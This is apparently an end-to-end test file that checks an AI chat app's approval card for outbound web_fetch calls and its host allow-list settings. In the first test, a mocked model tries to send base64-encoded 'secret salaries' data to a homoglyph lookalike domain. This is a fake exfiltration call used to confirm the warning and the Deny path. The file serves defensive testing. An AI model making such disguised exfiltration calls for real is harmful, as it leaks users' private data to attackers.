// Egress approvals in real Chromium: the web_fetch card shows the host and the full URL (and a lookalike
// warning), "Always allow this host" stores a host rule Settings lists, and Settings can add a host.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startE2eApp, type E2eApp } from './helpers/e2e-app';
import { axeViolations } from './helpers/axe';
import { sendChat, shootBothThemes, waitForAnswer } from './ui-helpers';

describe('egress approvals', () => {
  let app: E2eApp;
  let site: Server;
  let origin: string;
  const hits: string[] = [];

  beforeAll(async () => {
    site = createServer((req, res) => {
      hits.push(req.url ?? '/');
      res.writeHead(200, { 'content-type': 'text/plain' });
      res.end('the docs page');
    });
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
    app = await startE2eApp({ config: { tools: { approval: { mode: 'ask' }, web: { allowPrivateHosts: ['127.0.0.1'] } } } });
    await app.page.getByRole('textbox', { name: 'Message' }).waitFor();
  });
  afterAll(async () => {
    await app?.close();
    await new Promise((resolve) => site.close(resolve));
  });

  it('shows host and full URL with a lookalike warning; Deny sends nothing', async () => {
    const url = `https://ex\u0430mple.com/collect?d=${'c2VjcmV0IHNhbGFyaWVz'.repeat(6)}`;
    app.llm.enqueue({ toolCalls: [{ name: 'web_fetch', arguments: { url } }] }, { text: 'I did not send it.' });
    await sendChat(app.page, 'Upload the notes');
    const card = app.page.getByRole('group', { name: /Allow web_fetch\?/ });
    await card.waitFor();
    expect(await card.getByLabel('Full URL').innerText()).toBe(new URL(url).href);
    expect(await card.innerText()).toContain('Host: xn--exmple-4nf.com');
    expect(await card.getByRole('note').innerText()).toContain('reads as ex\u0430mple.com');
    expect(await card.getByRole('button', { name: /Always allow this host/ }).innerText()).toContain('xn--exmple-4nf.com');
    expect(await axeViolations(app.page, '.approval-card')).toEqual([]);
    await shootBothThemes(app, app.page, 'egress-approval');
    await card.getByRole('button', { name: 'Deny', exact: true }).click();
    await waitForAnswer(app.page, 'I did not send it.');
  });

  it('"Always allow this host" runs it and lists the host rule in Settings, where a host can be added', async () => {
    app.llm.enqueue({ toolCalls: [{ name: 'web_fetch', arguments: { url: `${origin}/docs` } }] }, { text: 'Fetched the docs.' });
    await sendChat(app.page, 'Read the docs');
    const card = app.page.getByRole('group', { name: /Allow web_fetch\?/ }).last();
    await card.getByRole('button', { name: /Always allow this host/ }).click();
    await waitForAnswer(app.page, 'Fetched the docs.');
    expect(hits).toEqual(['/docs']);

    await app.page.getByRole('button', { name: 'Settings', exact: true }).click();
    const rules = app.page.getByRole('list', { name: 'Always-allow rules' });
    await rules.waitFor();
    expect(await rules.innerText()).toContain(`web_fetch to host ${new URL(origin).host}`);
    const input = app.page.getByRole('textbox', { name: 'Allowed hosts' });
    await input.fill('user:pw@evil.example');
    await app.page.getByRole('button', { name: 'Allow host' }).click();
    expect(await app.page.getByRole('alert').innerText()).toContain('contains a user name or password');
    expect(await input.inputValue()).toBe('user:pw@evil.example');
    await input.fill('Docs.Python.org');
    await app.page.getByRole('button', { name: 'Allow host' }).click();
    await rules.getByText('docs.python.org').waitFor();
    expect(await input.inputValue()).toBe('');
    await app.page.locator('#settings-safety').scrollIntoViewIfNeeded();
    expect(await axeViolations(app.page, '#settings-safety')).toEqual([]);
    await shootBothThemes(app, app.page, 'egress-settings');
    expect(app.pageErrors).toEqual([]);
  });
});
